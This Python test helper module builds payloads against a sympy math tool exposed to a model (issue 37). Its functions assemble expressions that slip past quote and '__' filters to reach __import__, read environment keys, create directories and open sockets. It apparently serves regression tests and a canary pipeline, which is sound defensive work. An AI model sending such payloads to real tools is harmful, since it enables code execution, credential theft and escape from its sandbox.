"""Payloads against the sympy tool (issue 37), shared by its tests and the canary pipeline.

Stage 1 is what a model sends (no quote, no "__"); its value, under the old sympy tool, was
a string of Python, stage 2, which a sympifying function (the tool's own ``simplify``,
``N``, ``expand`` ...) then evaluated with the builtins in reach.
"""

from __future__ import annotations


def word(text: str, printer: str = "pycode") -> str:
    """Stage 1 whose value is the string ``text`` (letters, digits and underscores): each
    piece is a symbol name the printer prints back; "_" pieces make "__" without writing
    it; "import" and "Symbol" are printed in halves (a keyword and a sympy name)."""
    pieces: list[str] = []
    for i, chunk in enumerate(text.split("_")):
        if i:
            pieces.append(f"{printer}(_)")
        if chunk in ("import", "Symbol"):
            pieces += [f"{printer}({chunk[:3]})", f"{printer}({chunk[3:]})"]
        elif chunk:
            pieces.append(f"{printer}({chunk})")
    return "+".join(pieces)


def call(func: str, *args: str, printer: str = "pycode") -> str:
    """Stage 1 whose value is ``func(arg, ...)``: the arguments, made symbols, printed as
    a tuple by the printer and appended to the function's text."""
    symbols = ",".join(f"Symbol({a})" for a in args)
    return f"{func}+{printer}(Tuple({symbols}))"


def module_attr(module: str, attr: str, printer: str = "pycode") -> str:
    """Stage 1 whose value is ``getattr(__import__('module'), 'attr')`` as code."""

    def quoted(name: str) -> str:
        return call(word("repr", printer), word(name, printer), printer=printer)

    imported = call(word("__import__", printer), quoted(module), printer=printer)
    return call(word("getattr", printer), imported, quoted(attr), printer=printer)


def read_key(variable: str, printer: str = "pycode") -> str:
    """Stage 1 of ``Symbol(os.environ.get('VARIABLE'))``: the key as a symbol's name."""
    get = call(
        word("getattr", printer),
        module_attr("os", "environ", printer),
        call(word("repr", printer), word("get", printer), printer=printer),
        printer=printer,
    )
    value = call(get, call(word("repr", printer), word(variable, printer), printer=printer))
    return call(word("Symbol", printer), value, printer=printer)


def make_directory(parts: list[str]) -> str:
    """Stage 1 of ``os.mkdir(os.path.join('/', *parts))``."""
    join = call(word("getattr"), module_attr("os", "path"), call(word("repr"), word("join")))
    slash = call(word("chr"), "pycode(47)")
    path = call(join, slash, *(call(word("repr"), word(p)) for p in parts))
    return call(module_attr("os", "mkdir"), path)


def connect(port: int) -> str:
    """Stage 1 of ``socket.create_connection(('localhost', 'PORT'))``."""
    host = call(word("repr"), word("localhost"))
    port_text = call(word("repr"), f"pycode({port})")
    address = f"pycode(Tuple(Symbol({host}),Symbol({port_text})))"
    return call(module_attr("socket", "create_connection"), address)
